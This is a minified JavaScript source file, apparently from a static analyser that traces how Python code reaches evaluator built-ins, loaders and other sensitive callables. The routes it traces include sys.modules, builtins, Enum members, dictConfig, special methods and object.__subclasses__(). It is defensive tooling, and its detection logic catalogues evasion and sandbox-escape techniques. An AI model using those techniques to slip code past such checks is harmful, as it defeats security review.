  if (bindings.names.size === 0 && bindings.slotRoots.size === 0 && !dynamic && !LOADED_MODULE_TEXT.test(source) && !EVALUATOR_TEXT.test(source) && !source.includes(SUBCLASSES)) return { calls: [], imports, comments, exports: {}, state: stateOf([], []) };
  const importers = dynamic ? importerAliases(source) : NO_IMPORTERS;
  const definitions = innerFirst(captured2);
  for (const [node] of locals) constants.poison(identifierAt(source, node.startIndex));
  for (const [nameNode, value, steps] of definitions) {
    if (nameNode.type === "identifier") {
      if (steps || !stringConstant(source, value)) constants.poison(nameNode.text);
    } else if (nameNode.type === "pattern_list" || nameNode.type === "tuple_pattern" || nameNode.type === "list_pattern") for (const name2 of identifiersIn(nameNode.text)) constants.poison(name2);
  }
  const resolver = new Resolver2(bindings, filter, source, constants, importers, deadline, unwatchedNames);
  let classNames;
  const fileClasses = () => classNames ??= new Set(locals.filter(([node, outer]) => outer && node.parent.type === "class_definition" && bindings.scopeOf(node, node.parent) === bindings.scopes.rootId).map(([node]) => identifierAt(source, node.startIndex)));
  const knownHere = knownIn(bindings, source);
  const known = importers.size ? (name2) => knownHere(name2) || importers.has(name2) : knownHere;
  const shadowLocals = (fresh) => {
    for (const [node, outer] of locals) {
      const name2 = identifierAt(source, node.startIndex);
      if (!shadows2(bindings, name2) || fresh && !fresh.named(name2)) continue;
      const definition = outer ? node.parent : void 0;
      const scope = definition ? bindings.scopeOf(node, definition) : bindings.scopeOf(node);
      if (scope === bindings.scopes.rootId && !bindings.names.has(name2) && !BUILTIN_EVALUATORS.has(name2) && !(definition && LOADER_NAMES.has(name2))) continue;
      binders.push(node.startIndex);
      const from = BUILTIN_EVALUATORS.has(name2) && !bindings.names.has(name2) ? hidesBuiltinFrom(node, source) : 0;
      if (from !== void 0) bindings.bind(scope, name2, void 0, void 0, from || void 0);
      if (definition) bindings.shadowStar(scope, name2, () => !definition.childForFieldName("superclasses") && unconditional(definition) ? definition.endIndex : void 0);
    }
  };
  shadowLocals();
  const bindDefinitions = (fresh, mentioned) => {
    for (const [nameNode, value, steps] of definitions) {
      const target = Math.min(nameNode.startIndex, value.startIndex);
      if (mentioned ? !mentioned(target, value.startIndex, value.endIndex) : fresh && !mentions(source, target, value.startIndex, value.endIndex, fresh)) continue;
      const { name: name2, simple, classBases, decorator, mayResolve, container, assigned } = readDefinition(source, nameNode, value, known, steps);
      if (simple && !steps && stringConstant(source, value)) constants.add(name2, value);
      const replacing = simple && replaces(bindings, name2);
      if (!replacing && !mayResolve) continue;
      const unpacked2 = steps ? resolver.assigned(assigned, steps) : void 0;
      if (steps && !unpacked2 && !replacing) continue;
      binders.push(nameNode.startIndex);
      let read;
      const statement = () => (read ??= statementOf2(nameNode, value)).statement;
      const site = () => (read ??= statementOf2(nameNode, value)).site;
      const entries = container ? resolver.containerEntries(assigned) : void 0;
      if (entries) {
        const topName = simple && bindings.scopeOf(nameNode) === bindings.scopes.rootId;
        const key = simple ? topName ? name2 : void 0 : resolver.slotKey(nameNode);
        if (key) resolver.containerSlots(key, entries, site(), topName);
      }
      const path2 = classBases ? resolver.firstBase(value) : (entries ? heldContainer(entries) : void 0) ?? (steps ? unpacked2 : resolver.assigned(assigned, steps));
      if (simple) {
        const scope = classBases || decorator ? bindings.scopeOf(nameNode, statement()) : bindings.scopeOf(nameNode);
        const from = path2 || !BUILTIN_EVALUATORS.has(name2) ? 0 : hidesBuiltinFrom(nameNode, source);
        if (from !== void 0) bindings.bind(scope, name2, path2 && through(path2, site()), void 0, from || void 0);
        if (!path2) bindings.shadowStar(scope, name2, () => unconditional(statement()) && statement().type !== "for_statement" ? statement().endIndex : void 0);
        const owner = path2 && !classBases && !(read ??= statementOf2(nameNode, value)).chained ? statement().parent?.parent?.parent : void 0;
        if (owner?.type === "class_definition") {
          const instanceOnly = statement().type === "function_definition";
          for (const root of instanceOnly ? ["self"] : ["self", "cls"]) bindings.bindSlot(`${root}.${name2}`, through(path2, site()));
          const offered = unconditional(owner) ? owner.childForFieldName("name")?.text : void 0;
          if (offered) offerMember(bindings, offered, name2, through(path2, site()), instanceOnly);
        }
      } else if (path2) {
        const key = resolver.slotKey(nameNode);
        if (key) bindings.bindSlot(key, through(path2, site()));
        const attribute = nameNode.type === "attribute" ? classAttribute(nameNode, fileClasses(), bindings) : void 0;
        if (attribute) {
          for (const owner of ["self", "cls"]) bindings.bindSlot(`${owner}.${attribute}`, through(path2, site()));
          offerMember(bindings, nameNode.childForFieldName("object").text, attribute, through(path2, site()), true);
        }
      }
    }
  };
  bindDefinitions();
  const parameters = pythonParameters({ source, bindings, captures: { callees, locals, definitions }, resolve: (node) => resolver.resolve(node), crosses: (path2) => path2.module === FILE_CLASS || path2.module === PROJECT_INSTANCE || filter.reachesCrossing(path2), known, binders });
  const rebind = (fresh, mentioned) => {
    shadowLocals(fresh);
    bindDefinitions(fresh, mentioned);
    shadowLocals(fresh);
  };
  followParameters(bindings, parameters.round, (fresh) => rebind(fresh));
  const unfollowedMethods = bindFactories({ source, root: tree.rootNode, bindings, known, resolve: (node) => resolver.returnedValue(node), binders, rebind }, PY_FACTORIES);
  shadowLocals();
  if (instanceSlots(bindings)) {
    const fresh = bindings.startFresh();
    for (const [node, outer] of locals) {
      const definition = outer ? node.parent : void 0;
      if (definition?.type !== "class_definition") continue;
      binders.push(node.startIndex);
      bindings.bind(bindings.scopeOf(node, definition), identifierAt(source, node.startIndex), through({ module: FILE_CLASS, members: [] }, { startIndex: definition.startIndex, endIndex: node.endIndex }));
    }
    rebind(fresh);
    followParameters(bindings, parameters.round, (next) => rebind(next), fresh);
  }
  const { calls, passed: handed } = callsOf2(callees, args2, resolver, known, source);
  const passed = [...handed, ...storedOutside(definitions, resolver, known, source, importNodes), ...storedInModuleTable(callees, resolver, source, importNodes), ...enumMemberValues(definitions, resolver, known, source), ...implicitMethodReturns(source, tree.rootNode, known, resolver), ...unfollowedMethods.map(({ value, path: path2, method }) => methodReturn(value, path2, method, resolver, source))].sort((a, b) => a.start - b.start);
  return { calls: [...calls, ...passed], imports, comments, exports: bindings.exported(), state: stateOf(calls, passed, parameters.facts) };
}
function innerFirst(definitions) {
  const ends = definitions.map(([, value], i2) => [value.endIndex, i2]);
  return ends.sort(([a, i2], [b, j]) => a - b || i2 - j).map(([, i2]) => definitions[i2]);
}
var hookNote = (method) => method === "__getattr__" || method === "__getattribute__" ? `It is returned by an attribute hook (\`${method}\`), so any attribute read of its object or module may be it` : `It is returned by the special method \`${method}\`, which Python calls itself (a subscript, \`with\`, a loop, an operator, a descriptor's read\u2026), so that use of its object may be it`;
var BUILTINS_NOTE = "It is stored in the builtins, where any module (another file's too) reads it by a bare name";
var RESULT_UNUSED = ["init", "del", "set", "delete", "setitem", "delitem", "setattr", "delattr", "init_subclass", "set_name", "exit", "aexit", "str", "repr", "len", "length_hint", "bool", "hash", "format", "bytes", "index", "int", "float", "complex", "contains", "instancecheck", "subclasscheck", "sizeof", "fspath"];
var IMPLICIT_METHOD_TEXT = new RegExp(`\\bdef[ \\t]+(__(?!(?:${RESULT_UNUSED.join("|")})__)[a-z_]+?__)[ \\t]*\\(`);
var IMPLICIT_METHODS = new RegExp(IMPLICIT_METHOD_TEXT.source, "g");
var isImplicitMethod = (name2) => IMPLICIT_METHOD_TEXT.test(`def ${name2}(`);
function implicitMethodReturns(source, root, known, resolver) {
  const out2 = [];
  for (const hook of source.matchAll(IMPLICIT_METHODS)) {
    const fn = root.namedDescendantForIndex(hook.index, hook.index + 3);
    if (fn?.type !== "function_definition") continue;
    const note = hookNote(hook[1]);
    for (const value of returnedValues(source, root, known, PY_FACTORIES, fn.startIndex, fn.endIndex)) {
      if (enclosing(value, DEFERRED)?.id !== fn.id) continue;
      const path2 = resolver.returnedValue(value);
      if (!path2 || path2.returns) continue;
      for (const held of path2.properties ? heldValues(path2) : [path2]) out2.push({ start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: { ...held.members.length === 0 ? extend(held, ANY) : held, unfollowed: note }, form: "call" });
    }
  }
  return out2;
}
function storedOutside(definitions, resolver, known, source, importNodes) {
  const out2 = [];
  let modules;
  for (const [nameNode, value, steps] of definitions) {
    if (nameNode.type !== "attribute" && nameNode.type !== "subscript") continue;
    const holder = nameNode.childForFieldName(nameNode.type === "attribute" ? "object" : "value");
    const owner = parameterOwner2(holder);
    const first = identifierAt(source, nameNode.startIndex);
    const imported = first !== void 0 && (modules ??= importedModules(importNodes)).has(first) ? modules.get(first) : void 0;
    if (!owner && imported === void 0 && !known(first)) continue;
    const { mayResolve, assigned } = readDefinition(source, nameNode, value, known, steps);
    if (!mayResolve) continue;
    const note = owner ? storedInParameterNote(oneLine(nameNode.text), holder.text, owner) : isBuiltins(resolver, holder) ? BUILTINS_NOTE : imported !== void 0 ? importedHolderNote(nameNode, holder, imported, modules) : void 0;
    if (!note) continue;
    const path2 = resolver.assigned(assigned, steps);
    if (!path2 || path2.returns || path2.properties) continue;
    out2.push(storedSite(assigned, through(path2, nameNode.parent ?? nameNode), note));
  }
  return out2;
}
var ENUM_BASES = /(?:Enum|Flag)\s*[,)]/;
var ENUM_NOTE = 'It is an Enum member\'s value, which `.value` of the member (`Tool.SHELL.value`, `Tool["SHELL"].value`, a loop over the class) reads';
function enumMemberValues(definitions, resolver, known, source) {
  if (!/(?:Enum|Flag)\b/.test(source)) return [];
  const out2 = [];
  for (const [nameNode, value, steps] of definitions) {
    if (nameNode.type !== "identifier" || steps) continue;
    const statement = nameNode.parent?.type === "assignment" ? nameNode.parent.parent : void 0;
    const cls = statement?.type === "expression_statement" && statement.parent?.type === "block" ? statement.parent.parent : void 0;
    if (cls?.type !== "class_definition" || !ENUM_BASES.test(cls.childForFieldName("superclasses")?.text ?? "")) continue;
    if (!readDefinition(source, nameNode, value, known).mayResolve) continue;
    const written = value.type === "identifier" || value.type === "attribute" ? [value] : value.descendantsOfType(["identifier", "attribute"]).filter((n) => !!n && n.parent?.type !== "attribute" && !(n.parent?.type === "call" && n.parent.childForFieldName("function")?.id === n.id) && !(n.parent?.type === "keyword_argument" && n.parent.childForFieldName("name")?.id === n.id));
    for (const node of written) {
      if (!known(identifierAt(source, node.startIndex))) continue;
      const path2 = resolver.resolve(node);
      if (!path2 || path2.returns || path2.properties) continue;
      out2.push(storedSite(node, through(path2, statement), ENUM_NOTE));
    }
  }
  return out2;
}
function importedModules(importNodes) {
  const out2 = /* @__PURE__ */ new Map();
  for (const node of importNodes) {
    const from = node.childForFieldName("module_name");
    const module2 = from?.text.replace(/\s+/g, "");
    for (const child of node.namedChildren) {
      if (!child || from && child.id === from.id || child.type !== "dotted_name" && child.type !== "aliased_import") continue;
      const name2 = (child.type === "aliased_import" ? child.childForFieldName("name") : child)?.text.replace(/\s+/g, "");
      const alias = child.type === "aliased_import" ? child.childForFieldName("alias")?.text : void 0;
      if (!name2) continue;
      const dotted = module2 ? `${module2}.${name2}` : alias ? name2 : name2.split(".")[0];
      out2.set(alias ?? (module2 ? name2 : name2.split(".")[0]), dotted);
    }
  }
  return out2;
}
var MODULE_TABLE = "sys.modules";
var isModuleTable = (holder, modules) => {
  const dot = holder.lastIndexOf(".");
  return dot < 0 ? modules.get(holder) === MODULE_TABLE : holder.slice(dot + 1) === "modules" && modules.get(holder.slice(0, dot)) === "sys";
};
function importedHolderNote(target, holder, imported, modules) {
  const written = oneLine(target.text);
  if (target.type === "subscript") return holder && isModuleTable(holder.text.replace(/\s+/g, ""), modules) ? moduleTableNote(written) : void 0;
  return `It is stored in \`${written}\`, an attribute of the module ${imported.split(".")[0]}, which every module importing it reads (another file's too)`;
}
var moduleTableNote = (written) => `It is stored in \`${written}\`, the table of loaded modules, where an \`import\` of that name (another file's too) finds it`;
function storedInModuleTable(callees, resolver, source, importNodes) {
  if (!/\bmodules\s*\.\s*(?:update|setdefault|__setitem__)\b/.test(source)) return [];
  const modules = importedModules(importNodes);
  const out2 = [];
  for (const [callee] of callees) {
    if (callee.type !== "attribute" || !/^(?:update|setdefault|__setitem__)$/.test(callee.childForFieldName("attribute")?.text ?? "")) continue;
    const table = callee.childForFieldName("object");
    if (!table || !isModuleTable(table.text.replace(/\s+/g, ""), modules)) continue;
    const values = [];
    for (const arg of callee.parent?.childForFieldName("arguments")?.namedChildren ?? []) {
      if (!arg) continue;
      if (arg.type === "keyword_argument") values.push(arg.childForFieldName("value"));
      else if (arg.type === "dictionary") {
        for (const pair of arg.namedChildren) if (pair?.type === "pair") values.push(pair.childForFieldName("value"));
      } else values.push(arg);
    }
    for (const value of values) {
      const path2 = value ? resolver.resolve(value) : void 0;
      if (!path2 || path2.returns || path2.properties) continue;
      out2.push(storedSite(value, through(path2, callee.parent), moduleTableNote(oneLine(callee.parent.text))));
    }
  }
  return out2;
}
function parameterOwner2(holder) {
  if (holder?.type !== "identifier") return void 0;
  for (let fn = enclosing(holder, DEFERRED); fn; fn = enclosing(fn, DEFERRED)) {
    const parameters = fn.childForFieldName("parameters")?.namedChildren ?? [];
    const index = parameters.findIndex((p) => (p?.type === "identifier" ? p : p?.type === "default_parameter" || p?.type === "typed_default_parameter" ? p.childForFieldName("name") : p?.type === "typed_parameter" ? p.namedChild(0) : void 0)?.text === holder.text);
    if (index < 0) continue;
    const decorated2 = fn.parent?.type === "decorated_definition" ? fn.parent : void 0;
    const method = (decorated2 ?? fn).parent?.type === "block" && (decorated2 ?? fn).parent?.parent?.type === "class_definition";
    if (method && index === 0 && !decorated2?.namedChildren.some((d) => d?.type === "decorator" && /^@\s*staticmethod\b/.test(d.text))) return void 0;
    return fn.type === "lambda" ? "lambda" : fn.childForFieldName("name")?.text ?? "";
  }
  return void 0;
}
function isBuiltins(resolver, holder) {
  const target = holder ? resolver.resolve(holder) : void 0;
  return target?.module === "builtins" && !target.returns && !target.properties && (target.members.length === 0 || target.members.length === 1 && target.members[0] === NAMESPACE);
}
var storedSite = (value, path2, note) => ({ start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: { ...path2.members.length === 0 ? extend(path2, ANY) : path2, unfollowed: note }, form: "call" });
var shadows2 = (bindings, name2) => replaces(bindings, name2) || DYNAMIC.has(name2) || REDUCERS2.has(name2) || CARRIERS.has(name2);
var replaces = (bindings, name2) => bindings.names.has(name2) || bindings.slotPath([name2, ANY_ENTRY]) !== void 0 || BUILTIN_EVALUATORS.has(name2);
var BUILTIN_EVALUATORS = new Set(evaluatorsOf("python", "builtins"));
var BUILTINS_NAME = "__builtins__";
var builtinPath = (name2) => BUILTIN_EVALUATORS.has(name2) ? { module: "builtins", members: [name2] } : name2 === BUILTINS_NAME ? { module: "builtins", members: [] } : void 0;
var EVALUATOR_TEXT = new RegExp(`(?<![\\w.])(?:${[...BUILTIN_EVALUATORS].join("|")}|__builtins__)\\b`);
var LOCAL_SCOPES = /* @__PURE__ */ new Set(["function_definition", "lambda", "list_comprehension", "set_comprehension", "dictionary_comprehension", "generator_expression"]);
var SURE_BINDING_PARTS = /* @__PURE__ */ new Set(["pattern_list", "tuple_pattern", "list_pattern", "assignment", "expression_statement", "function_definition", "class_definition", "decorated_definition", "aliased_import", "dotted_name", "import_statement", "import_from_statement"]);
var UNSETTLED_EVALUATOR_TEXT = new RegExp(`(?:\\b(?:del|global)\\b|\\b(?:globals|vars|delattr|setattr)\\s*\\(|__dict__)[^\\n]*\\b(?:${[...BUILTIN_EVALUATORS].join("|")})\\b`);
var lastUnsettled;
var unsettled = (source) => lastUnsettled?.[0] === source ? lastUnsettled[1] : (lastUnsettled = [source, UNSETTLED_EVALUATOR_TEXT.test(source)])[1];
function hidesBuiltinFrom(name2, source) {
  if (unsettled(source)) return void 0;
  let sure = true;
  let statement = name2;
  for (let n = name2; n?.parent; n = n.parent) {
    const parent = n.parent;
    const own = (parent.type === "function_definition" || parent.type === "class_definition") && parent.childForFieldName("name")?.id === n.id;
    if (LOCAL_SCOPES.has(parent.type) && !own) return 0;
    if (parent.type === "module" || parent.type === "block" && parent.parent?.type === "class_definition") return sure ? statement.endIndex : void 0;
    if (!SURE_BINDING_PARTS.has(parent.type)) sure = false;
    statement = parent;
  }
  return void 0;
}
var instanceSlots = (bindings) => bindings.slotRoots.has("self") || bindings.slotRoots.has("cls");
var knownIn = (bindings, source) => {
  const unboundReads = UNBOUND_READ_TEXT.test(source);
  const reduced = REDUCED_TEXT.test(source);
  return (name2) => name2 !== void 0 && (bindings.known(name2) || DYNAMIC.has(name2) || (unboundReads || bindings.slotRoots.has("cls")) && CLASS_OF.has(name2) || reduced && REDUCERS2.has(name2));
};
var REDUCERS2 = /* @__PURE__ */ new Set(["functools", "reduce"]);
var REDUCED_TEXT = /\breduce\s*\(\s*(?:(?:builtins|__builtins__)\s*\.\s*)?getattr\b/;
function readDefinition(source, nameNode, value, known, steps) {
  const name2 = identifierAt(source, nameNode.startIndex) ?? "";
  SLOT_TARGET2.lastIndex = nameNode.startIndex + name2.length;
  const simple = name2 !== "" && !SLOT_TARGET2.test(source);
  CHAINED2.lastIndex = LONG_SUBSCRIPT2.lastIndex = value.startIndex + (identifierAt(source, value.startIndex)?.length ?? 0);
  const assigned = CHAINED2.test(source) || LONG_SUBSCRIPT2.test(source) && value.type === "assignment" ? lastAssigned(value) : value;
  const decorator = assigned.type === "decorator";
  const classBases = assigned.type === "argument_list";
  const container = !steps && CONTAINER_OPENS.has(source[assigned.startIndex]) && CONTAINERS.has(assigned.type) && watchedLiteral(source, assigned, known);
  const subjects = MATCH_CAPTURES.has(assigned.type) ? matchedAt(assigned)?.subjects ?? [] : void 0;
  const mayResolve = container || (subjects ? subjects.some((subject) => mayResolveValue(source, subject, known)) : mayResolveValue(source, decorator ? namedChildrenOf(assigned)[0] ?? assigned : assigned, known, classBases || assigned.type === "expression_list"));
  return { name: name2, simple, classBases, decorator, mayResolve, container, assigned };
}
function mayResolveValue(source, value, known, namesDecide = false) {
  if (CONTAINER_OPENS.has(source[value.startIndex]) && CONTAINERS.has(value.type) && watchedLiteral(source, value, known)) return true;
  if (namesDecide || CONTAINER_OPENS.has(source[value.startIndex]) || namespaceCopyAt(source, value.startIndex) || carrierAt(source, value.startIndex)) return value.endIndex - value.startIndex > MAX_DECIDING_TEXT || identifiersIn(source.slice(value.startIndex, value.endIndex)).some(known);
  return known(identifierAt(source, value.startIndex)) || mayFallBack(source, value.startIndex, value.endIndex, known, PY_FALLBACK);
}
var MATCH_CAPTURES = /* @__PURE__ */ new Set(["dotted_name", "splat_pattern", "as_pattern"]);
var SELF_MATCHING = /* @__PURE__ */ new Set(["bool", "bytearray", "bytes", "dict", "float", "frozenset", "int", "list", "set", "str", "tuple"]);
function matchedAt(capture) {
  const keys = [];
  let node = capture;
  for (let level = 0; ; level++) {
    const parent = node.parent;
    if (!parent) return void 0;
    if (level > MAX_RESOLVE_DEPTH && parent.type !== "case_clause") {
      node = parent;
      continue;
    }
    switch (parent.type) {
      case "case_clause": {
        const match = parent.parent?.parent;
        return match?.type === "match_statement" ? { subjects: match.childrenForFieldName("subject").filter((subject) => subject !== null && !isComment(subject)), keys: level > MAX_RESOLVE_DEPTH ? [void 0] : keys.reverse() } : void 0;
      }
      case "keyword_pattern":
        if (node.type !== "splat_pattern") keys.push(namedChildrenOf(parent)[0]?.text);
        break;
      case "class_pattern": {
        const parts2 = namedChildrenOf(parent);
        if (node.type === "case_pattern" && node.namedChild(0)?.type !== "keyword_pattern" && !SELF_MATCHING.has(parts2[0]?.text ?? "")) keys.push(void 0);
        break;
      }
      case "dict_pattern":
        if (node.type !== "splat_pattern") keys.push(patternKey(node.previousNamedSibling));
        break;
      case "list_pattern":
      case "tuple_pattern": {
        const parts2 = namedChildrenOf(parent);
        if (parent.type === "tuple_pattern" && parts2.length === 1 && !/,\s*\)$/.test(parent.text)) break;
        if (node.type === "splat_pattern" || node.namedChild(0)?.type === "splat_pattern") break;
        const index = parts2.findIndex((part) => part.id === node.id);
        keys.push(parts2.slice(0, index).some((part) => part.namedChild(0)?.type === "splat_pattern" || part.type === "splat_pattern") ? void 0 : String(index));
        break;
      }
    }
    node = parent;
  }
}
function patternKey(key) {
  if (key?.type === "integer") return key.text;
  return key?.type === "string" && !key.namedChildren.some((part) => part?.type === "interpolation") ? stringValue(key) : void 0;
}
function lastAssigned(value) {
  if (lastChain?.tree === value.tree && lastChain.end === value.endIndex && lastChain.value.startIndex >= value.startIndex) return lastChain.value;
  const links = /* @__PURE__ */ new Map();
  let node = value;
  for (let right; node.type === "assignment" && (right = node.childForFieldName("right")); node = right) links.set(node.startIndex, node);
  lastChain = { tree: value.tree, end: value.endIndex, value: node, links };
  return node;
}
var lastChain;
var CHAINED2 = /(?:[ \t]*\.[ \t]*\w+|\[[^\]\n]{0,200}\])*[ \t]*=(?!=)/y;
var LONG_SUBSCRIPT2 = /(?:[ \t]*\.[ \t]*\w+|\[[^\]\n]{0,200}\])*\[[^\]\n]{201}/y;
var LITERAL_KEYS = /* @__PURE__ */ new Set(["integer", "float", "true", "false", "none"]);
var CONTAINERS = /* @__PURE__ */ new Set(["dictionary", "list", "tuple"]);
var CONTAINER_OPENS = /* @__PURE__ */ new Set(["{", "[", "("]);
var PATTERNS = /* @__PURE__ */ new Set(["pattern_list", "tuple_pattern", "list_pattern", "list_splat_pattern"]);
function statementOf2(target, value) {
  const link2 = lastChain?.tree === target.tree && lastChain.end === value.endIndex ? lastChain.links.get(target.startIndex) : void 0;
  if (link2) return { statement: link2, site: link2, chained: true };
  let statement = target.parent;
  while (PATTERNS.has(statement.type)) statement = statement.parent;
  return { statement, site: statement.type === "for_statement" ? { startIndex: statement.startIndex, endIndex: statement.childForFieldName("right").endIndex } : statement };
}
function callsOf2(callees, args2, resolver, known, source) {
  const calls = [];
  for (const [captured2] of callees) {
    if (source.startsWith(SUBCLASSES, captured2.endIndex - SUBCLASSES.length) && listsEveryClass(captured2, resolver)) {
      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: "call", unread: EVERY_CLASS });
      continue;
    }
    const written = CONTAINER_OPENS.has(source[captured2.startIndex]) || namespaceCopyAt(source, captured2.startIndex) || carrierAt(source, captured2.startIndex);
    const first = written ? void 0 : identifierAt(source, captured2.startIndex);
    if (!written && !known(first)) continue;
    const unwrapped = written ? unwrap2(captured2) : captured2;
    const callee = unwrapped.type === "await" ? unwrapped.namedChild(0) ?? unwrapped : unwrapped;
    const text = callee.text;
    if (written && !identifiersIn(text).some(known)) continue;
    if (resolver.unreadLoad(captured2)) {
      calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text), path: { module: GLOBAL, members: [] }, form: "call", unread: UNREAD_LOAD });
      continue;
    }
    const invoked = callee.type === "attribute" && callee.childForFieldName("attribute")?.text === "__call__" ? callee.childForFieldName("object") : null;
    const path2 = invoked ? resolver.resolve(invoked, invoked.text) : (METHOD_CALLER_AT.test(text) ? resolver.methodCalled(callee) : void 0) ?? resolver.resolve(callee, text);
    if (path2 && !path2.returns && !looksUpNumericAddress(path2, captured2.parent, resolver.constants) && !sendsToConnectedPeer(path2, captured2.parent)) calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text), path: path2, form: "call", ...codeOfCall(resolver.filter, resolver.constants, source, path2, "call", captured2.parent) });
  }
  const passed = [];
  for (const arg of args2) {
    if (!known(identifierAt(source, arg.startIndex))) continue;
    const path2 = resolver.resolve(arg);
    const handed = calledThrough(path2, arg) ?? path2;
    const factory = handed !== path2;
    const values = handed ? handed.properties ? heldValues(handed) : [handed] : void 0;
    if (!values?.length) continue;
    const call2 = receiverOf(arg, (carrier, argument) => resolver.carries(carrier, argument));
    if (call2 === YIELDED || call2 === TOO_DEEP) {
      const passedTo = call2 === YIELDED ? YIELDED : NESTED_TOO_DEEP;
      for (const value of values) {
        if (call2 === YIELDED && value.members.length === 0 && !value.properties) passed.push({ start: arg.startIndex, end: arg.endIndex, callee: oneLine(arg.text), path: { ...extend(value, ANY), unfollowed: YIELDED_NOTE }, form: "call" });
        else passed.push({ start: arg.startIndex, end: arg.endIndex, callee: oneLine(arg.text), path: value, form: "call", passedTo, ...codeOfCall(resolver.filter, resolver.constants, source, value, "call", null, true) });
      }
      continue;
    }
    const fn = call2?.childForFieldName("function");
    if (!fn) continue;
    if (storedAttribute(fn, arg) && isBuiltins(resolver, namedChildrenOf(arg.parent)[0])) {
      for (const value of values) passed.push(storedSite(arg, value, BUILTINS_NOTE));
      continue;
    }
    if (isLibraryFunction(source, fn.text, PY_INSPECTORS) && !storedAttribute(fn, arg)) continue;
    const dynamic = isLibraryFunction(source, fn.text, PY_DYNAMIC);
    const readsAttribute = dynamic && ATTRIBUTE_READERS.test(fn.text.replace(/\s+/g, ""));
    const allocated = fn.type === "attribute" && fn.childForFieldName("attribute")?.text === "__new__" ? fn.childForFieldName("object") : null;
    if (allocated && (allocated.text === "super()" || allocated.text === "object" && isLibraryFunction(source, "object", PY_INSPECTORS) || resolver.resolve(allocated))) continue;
    for (const value of values) {
      if (readsAttribute || dynamic && value.members.length === 0) continue;
      passed.push({ start: arg.startIndex, end: arg.endIndex, callee: oneLine(arg.text), path: value, form: "call", passedTo: oneLine(fn.text), ...factory ? { returned: true } : {}, ...codeOfCall(resolver.filter, resolver.constants, source, value, "call", null, true) });
    }
  }
  passed.push(...returnedByHanded2(callees, resolver, known, source), ...configuredCallables(callees, resolver, source));
  return { calls, passed };
}
var DICT_CONFIG = "dictConfig";
var CONFIGURED_CALLABLE_KEYS = /* @__PURE__ */ new Set(["()", "class"]);
var CONFIGURED_NOTE = "It is named in a logging configuration (`logging.config.dictConfig`), which imports it and calls it with the entry's other keys";
function configuredCallables(callees, resolver, source) {
  const out2 = [];
  for (const [callee] of callees) {
    if (!source.startsWith(DICT_CONFIG, callee.endIndex - DICT_CONFIG.length)) continue;
    const path2 = resolver.resolve(callee);
    if (!path2 || [path2.module, ...path2.members].join(".") !== `logging.config.${DICT_CONFIG}`) continue;
    const config = namedChildrenOf(callee.parent?.childForFieldName("arguments"))[0];
    const walk = (dict, depth) => {
      if (depth === MAX_HANDED_DEPTH) return;
      for (const pair of namedChildrenOf(dict)) {
        if (pair.type !== "pair") continue;
        const value = pair.childForFieldName("value");
        if (value?.type === "dictionary") walk(value, depth + 1);
        const key = resolver.constants.stringOf(pair.childForFieldName("key"));
        const named2 = key !== void 0 && CONFIGURED_CALLABLE_KEYS.has(key) ? resolver.constants.stringOf(value) : void 0;
        if (!named2 || !value) continue;
        const parts2 = named2.split(".");
        for (let cut = 1; cut < parts2.length; cut++) {
          out2.push({ start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: { module: parts2.slice(0, cut).join("."), members: parts2.slice(cut), unfollowed: CONFIGURED_NOTE }, form: "call" });
        }
      }
    };
    if (config?.type === "dictionary") walk(config, 0);
  }
  return out2;
}
function returnedByHanded2(callees, resolver, known, source) {
  const calleeHanded = (value) => {
    let fn = enclosing(value, DEFERRED);
    if (fn?.type !== "lambda") return void 0;
    for (let depth = 0; fn.parent?.type === "lambda"; depth++) {
      if (depth === MAX_HANDED_DEPTH) return TOO_DEEP;
      fn = fn.parent;
    }
    const call2 = receiverOf(fn);
    return call2 === YIELDED || call2 === void 0 ? void 0 : call2 === TOO_DEEP ? call2 : call2.childForFieldName("function") ?? void 0;
  };
  return returnsOfHanded(callees.map(([node]) => node), source, known, PY_FACTORIES, calleeHanded, () => true, (value) => resolver.returnedValue(value)).map(({ value, path: path2, callee }) => {
    const passedTo = typeof callee === "string" ? NESTED_TOO_DEEP : oneLine(callee.text);
    return { start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: path2, form: "call", passedTo, ...typeof callee === "string" ? {} : { returned: true }, ...codeOfCall(resolver.filter, resolver.constants, source, path2, "call", null, true) };
  });
}
function methodReturn(value, path2, method, resolver, source) {
  return { start: value.startIndex, end: value.endIndex, callee: oneLine(value.text), path: path2, form: "call", passedTo: method, returned: true, method: true, ...codeOfCall(resolver.filter, resolver.constants, source, path2, "call", null, true) };
}
var SUBCLASSES = "__subclasses__";
var BASE_CLASS = /(?:\.__base__|\.__bases__\[[^\]]*\]|\.__mro__\[[^\]]*\])$/;
function listsEveryClass(callee, resolver) {
  const owner = callee.type === "attribute" ? callee.childForFieldName("object") : null;
  if (!owner) return false;
  const text = owner.text.replace(/\s+/g, "");
  return text === "object" && !resolver.declared("object", owner) || BASE_CLASS.test(text);
}
function receiverOf(arg, carries) {
  let node = arg;
  let carrier;
  for (let level = 0; level < MAX_HANDED_DEPTH; level++) {
    const parent = node.parent;
    if (!parent) return carrier;
    const call2 = parent.type === "argument_list" ? parent.parent?.type === "call" ? parent.parent : void 0 : parent.type === "call" && node.type === "generator_expression" ? parent : void 0;
    if (call2 && carries?.(call2, node)) {
      node = carrier = call2;
      continue;
    }
    if (call2 || parent.type === "argument_list") return call2;
    if (parent.type === "yield") return YIELDED;
    if (!HANDED_THROUGH.has(parent.type)) return carrier && !carriedInto(parent, node) ? carrier : void 0;
    node = parent;
  }
  return TOO_DEEP;
}
function carriedInto(parent, node) {
  if (parent.type === "return_statement") return true;
  const field = parent.type === "for_statement" || parent.type === "assignment" ? "right" : parent.type === "call" ? "function" : void 0;
  return field !== void 0 && parent.childForFieldName(field)?.id === node.id;
}
var HANDED_THROUGH = /* @__PURE__ */ new Set(["dictionary", "list", "tuple", "set", "pair", "expression_list", "keyword_argument", "list_splat", "dictionary_splat", "parenthesized_expression", "conditional_expression", "boolean_operator", "subscript", "slice", "list_comprehension", "set_comprehension", "dictionary_comprehension", "generator_expression", "for_in_clause"]);
function storedAttribute(fn, arg) {
  return fn.text === "setattr" && arg.parent?.type === "argument_list" && namedChildrenOf(arg.parent)[2]?.id === arg.id;
}
var MAX_DECIDING_TEXT = 1e3;
